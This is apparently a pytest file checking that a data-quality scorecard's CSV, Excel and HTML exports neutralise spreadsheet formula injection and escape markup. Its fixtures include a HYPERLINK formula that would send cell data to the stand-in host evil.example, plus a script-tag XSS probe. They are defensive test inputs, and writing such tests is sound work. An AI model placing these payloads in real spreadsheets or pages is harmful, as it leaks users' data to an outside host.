"""The scorecard for committee minutes as CSV and Excel, with formula injection neutralised."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from flows.report.collect import ReportData
from flows.report.export import neutralise, write_csv, write_xlsx
from flows.report.stage import write_report
from flows.workdir import Workdir
from tests.report.conftest import RUN_DATES

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+8613912345678", "'+8613912345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("crm_customers", "crm_customers"),
        ("a=b", "a=b"),
        ("", ""),
        (-1.5, -1.5),
        (97.9, 97.9),
        (None, None),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def test_csv_and_xlsx_carry_no_formula(tmp_path: Path) -> None:
    headers = ["source", "score", "=header"]
    rows = [[HOSTILE, -3.5, "@cmd"], ["ok", 99.0, None]]
    with open(write_csv(tmp_path / "s.csv", headers, rows), encoding="utf-8-sig", newline="") as fh:
        back = list(csv.reader(fh))
    assert back == [["source", "score", "'=header"], ["'" + HOSTILE, "-3.5", "'@cmd"], ["ok", "99.0", ""]]
    ws = load_workbook(write_xlsx(tmp_path / "s.xlsx", headers, rows, "scorecard")).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert ws["A2"].value == "'" + HOSTILE and ws["B2"].value == -3.5 and ws["C1"].value == "'=header"


def test_report_exports_the_scorecard(report_wd: Workdir) -> None:
    day = report_wd.published / "reports" / RUN_DATES[-1].isoformat()
    with open(day / "scorecard.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0][:2] == ["业务日期", "数据源"] and rows[0][-4:] == ["综合", "状态", "上次综合", "变化"]
    tickets = next(r for r in rows if r[1] == "service_tickets")
    assert tickets[0] == "2026-11-20" and tickets[-4:] == ["77.86", "失败", "83.86", "-6.0"]
    ws = load_workbook(day / "scorecard.xlsx").active
    assert ws.title == "质量评分卡" and ws.max_row == 5
    assert [c.value for c in ws[1]] == rows[0]


def test_hostile_names_are_neutralised_in_exports_and_escaped_in_html(tmp_path: Path) -> None:
    data = ReportData("r1", date(2026, 11, 20))
    data.scores = {HOSTILE: {"validity": 50.0, "overall": 50.0}, "<script>alert(1)</script>": {"overall": 99.0}}
    page = write_report(Workdir(tmp_path / "wd"), data, "en").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    day = tmp_path / "wd" / "published" / "reports" / "2026-11-20"
    text = (day / "scorecard.csv").read_text(encoding="utf-8-sig")
    assert "'" + HOSTILE.replace('"', '""') in text
    ws = load_workbook(day / "scorecard.xlsx").active
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert "'" + HOSTILE in [c.value for c in ws["B"]]
